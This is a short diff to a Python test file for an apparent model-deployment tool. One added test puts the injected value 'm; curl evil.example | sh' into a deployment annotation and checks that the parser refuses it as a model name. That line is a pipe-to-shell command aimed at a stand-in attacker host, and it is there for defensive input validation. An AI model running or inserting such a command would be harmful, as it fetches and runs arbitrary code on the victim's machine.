@@ -151,3 +151,9 @@ async def test_a_name_in_two_places_must_be_placed() -> None:
         with pytest.raises(UsageError, match="atlas-us team-a/qwen and harbor-eu team-a/qwen"):
             hosted.find(fleet, "qwen")
         assert hosted.find(fleet, "qwen", cluster="atlas-us").cluster == "atlas-us"
+
+
+def test_a_deployment_whose_model_can_be_no_name_is_not_ours() -> None:
+    obj = h.deployment()
+    obj["metadata"]["annotations"]["sealane.dev/model"] = "m; curl evil.example | sh"
+    assert view(obj, DeploymentView).model == ""
